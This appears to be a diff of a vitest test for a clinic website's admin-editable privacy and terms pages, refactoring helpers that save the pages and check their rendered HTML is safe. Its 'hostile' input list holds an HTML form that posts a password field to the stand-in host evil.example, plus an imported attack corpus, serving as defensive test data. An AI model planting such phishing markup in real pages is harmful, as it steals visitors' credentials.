@@ -1,11 +1,13 @@
 import { expect, onTestFinished, test } from 'vitest'
 import { seed } from '#app/domain/clinic/seed.ts'
+import { findDocument } from '#app/domain/website/documents/documents.server.ts'
 import { createMessageChannels } from '#app/platform/message-channels.server.ts'
 import { attacks } from '#tests/attack-corpus.ts'
 import { rowOf, setColumns } from '#tests/rows.ts'
 import { safeTag } from '#tests/safe-tag.ts'
 import { describeSite } from '#tests/site-on-each-database.ts'
 import { signedInAdmin } from '#tests/staff.ts'
+import { website } from '#tests/website.ts'
 
 const hostile = [
   '<h2>New rules</h2><form action="https://evil.example/"><input name="password"></form>',
@@ -18,22 +20,14 @@ const hostile = [
   ...attacks.filter((attack) => !/[^\P{Cc}\n\t]/u.test(attack)),
 ].join('')
 
-const version = (html: string) => /name="version" value="(\d+)"/.exec(html)?.[1] ?? '1'
-
 describeSite('the legal pages', (site) => {
-  const read = async (path: string, Cookie = '') =>
-    (await site().fetch(path, { headers: { Cookie } })).text()
-  const post = async (path: string, Cookie: string, fields: Record<string, string>) => {
-    const body = new URLSearchParams(fields)
-    const headers = { Cookie }
-    const response = await site().fetch(path, { method: 'POST', headers, body, redirect: 'manual' })
-    return { status: response.status, text: await response.text() }
+  const { post, ...pages } = website(site)
+  const read = async (path: string, Cookie = '') => (await pages.read(path, Cookie)).text
+  const save = async (name: 'privacy' | 'terms', Cookie: string, html: string) => {
+    const { version } = await findDocument(site().platform, name)
+    const content = JSON.stringify({ ...seed[name], html })
+    return post(`/admin/website/${name}`, Cookie, { version: String(version), content })
   }
-  const save = async (name: 'privacy' | 'terms', Cookie: string, html: string) =>
-    post(`/admin/website/${name}`, Cookie, {
-      version: version(await read(`/admin/website/${name}`, Cookie)),
-      content: JSON.stringify({ ...seed[name], html }),
-    })
 
   /** The text of a legal page, without the facts that the program adds around it. */
   const expectSafe = (page: string) => {
